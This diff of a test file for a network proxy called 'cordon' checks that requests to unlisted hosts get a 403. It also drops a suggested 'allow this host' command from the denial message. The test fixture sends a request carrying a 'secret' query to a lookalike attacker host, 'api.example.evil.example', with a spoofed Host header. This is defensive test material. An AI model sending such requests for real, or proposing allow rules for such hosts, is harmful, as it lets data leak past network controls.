@@ -34,7 +34,7 @@ test('SPEC 4.5 an allowed request reaches its server, rewritten for it', async (
   ])
 })
 
-test('SPEC 4.5 a denial is a 403 that names the host, the missing rule and the TOML; nothing is looked up', async () => {
+test('SPEC 4.5 a denial is a 403 that names the host and the missing rule, and no command; nothing is looked up', async () => {
   const lab = await startLab(rules({ host: 'api.example' }))
   const client = new Client(lab.port).send(
     'GET http://api.example.evil.example/x?secret HTTP/1.1\r\nHost: api.example\r\n\r\n',
@@ -43,9 +43,7 @@ test('SPEC 4.5 a denial is a 403 that names the host, the missing rule and the T
   expect(status).toBe('HTTP/1.1 403 Forbidden')
   expect(body).toBe(
     'cordon: network access denied: http://api.example.evil.example/x\n' +
-      '  because: no rule allows api.example.evil.example:80\n' +
-      '  to allow it (WHOSE is conversation.tools.NAME or profiles.NAME):\n' +
-      `    cordon config set WHOSE.access.net '+{ host = "api.example.evil.example", scheme = "http", port = 80, path_prefix = "/x", allow = true }'\n`,
+      '  because: no rule allows api.example.evil.example:80\n',
   )
   expect(lab.asked).toEqual([])
   expect(await settled(lab, 1)).toEqual([
